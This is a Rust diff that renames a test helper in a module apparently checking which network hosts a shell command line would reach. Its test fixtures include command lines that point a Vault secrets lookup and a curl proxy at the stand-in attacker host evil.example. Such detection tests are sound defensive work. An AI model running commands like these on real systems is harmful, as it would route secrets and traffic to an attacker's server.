@@ -62,7 +62,7 @@ fn host(value: &str) -> Option<String> {
 
 #[cfg(test)]
 mod tests {
-    use super::super::super::tests::of;
+    use super::super::super::tests::footprint_of;
 
     /// RU-75.
     #[test]
@@ -73,12 +73,12 @@ mod tests {
             "env VAULT_ADDR=https://evil.example vault kv get x",
             "https_proxy=evil.example:3128 curl http://x.example",
         ] {
-            assert!(of(line).hosts.contains(&"evil.example".to_owned()), "{line}");
+            assert!(footprint_of(line).hosts.contains(&"evil.example".to_owned()), "{line}");
         }
         for line in
             ["DOCKER_HOST=unix:///run/x docker ps", "PGHOST=localhost psql", "X=evil.example ls"]
         {
-            assert!(!of(line).hosts.iter().any(|host| host.contains("evil")), "{line}");
+            assert!(!footprint_of(line).hosts.iter().any(|host| host.contains("evil")), "{line}");
         }
     }
 }
